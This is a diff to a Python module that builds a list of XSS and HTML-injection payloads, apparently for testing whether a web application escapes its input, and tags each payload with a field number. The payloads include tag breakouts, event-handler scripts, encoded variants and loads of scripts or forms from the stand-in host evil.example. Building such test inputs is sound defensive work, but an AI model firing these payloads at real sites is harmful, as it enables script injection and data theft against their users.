@@ -1,11 +1,15 @@
-"""Texts that run as a script, or break a page, wherever one is shown as anything but text."""
+"""Texts that run as a script, or break a page, wherever one is shown as anything but text.
+
+Each carries a number, the mark of the field that it is put into: what is seen, or executes, tells
+from where it came.
+"""
 
 from __future__ import annotations
 
 import itertools
-from collections.abc import Sequence
 
-CODE = "top.owned=1"
+CODE = "top.owned={m}"
+FIRST_MARK = 100
 # What closes the place that a text is put into: an element, an attribute, a comment, a script.
 BREAKOUTS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "]]>", "*/", "`")
 MARKUP = (
@@ -26,11 +30,11 @@ MARKUP = (
     "<style onload={c}></style>",
     "<marquee onstart={c}>",
     "<svg><animate onbegin={c} attributeName=x>",
-    "<img src=//evil.example/i.png>",
-    "<script src=//evil.example/s.js></script>",
-    "<link rel=stylesheet href=//evil.example/s.css>",
-    "<base href=//evil.example/>",
-    "<form action=//evil.example><button>x",
+    "<img src=//evil.example/{m}.png>",
+    "<script src=//evil.example/{m}.js></script>",
+    "<link rel=stylesheet href=//evil.example/{m}.css>",
+    "<base href=//evil.example/{m}/>",
+    "<form action=//evil.example/{m}><button>x",
 )
 # Attributes, other notations, templates, urls, prototypes, directions and sheer size.
 OTHERS = (
@@ -41,9 +45,9 @@ OTHERS = (
     "JaVaScRiPt:{c}",
     "java\u00adscript:{c}",
     "data:text/html,<script>{c}</script>",
-    "//evil.example/x",
-    "https://evil.example/x",
-    "/\u2044evil.example",
+    "//evil.example/{m}",
+    "https://evil.example/{m}",
+    "/\u2044evil.example/{m}",
     "&lt;img src=x onerror={c}&gt;",
     "&#60;img src=x onerror={c}&#62;",
     "%3Cimg%20src=x%20onerror={c}%3E",
@@ -79,26 +83,24 @@ OTHERS = (
 )  # fmt: skip
 
 
-def payloads() -> list[str]:
-    """All of them, each once; every kind early in the list."""
+def payloads(mark: int = FIRST_MARK) -> list[str]:
+    """All of them with a mark, each once; every kind early in the list."""
+    code = CODE.format(m=mark)
     made = [before + text for before, text in itertools.product(BREAKOUTS, MARKUP)]
     found = list(
-        dict.fromkeys(text.format(c=CODE) if "{" in text else text for text in (*OTHERS, *made))
+        dict.fromkeys(
+            text.format(c=code, m=mark) if "{" in text else text for text in (*OTHERS, *made)
+        )
     )
     assert len(found) >= 200, "too few"
     return found
 
 
-def some(count: int) -> list[str]:
+def some(count: int, mark: int = FIRST_MARK) -> list[str]:
     """So many of them, from all over the list."""
-    known = payloads()
+    known = payloads(mark)
     step = max(1, len(known) // count)
     return known[::step][:count]
-
-
-def fitting(texts: Sequence[str], longest: int) -> list[str]:
-    """Each text as long as a field takes it."""
-    return list(dict.fromkeys(text[:longest] for text in texts))
 
 
 def as_address(text: str) -> str:
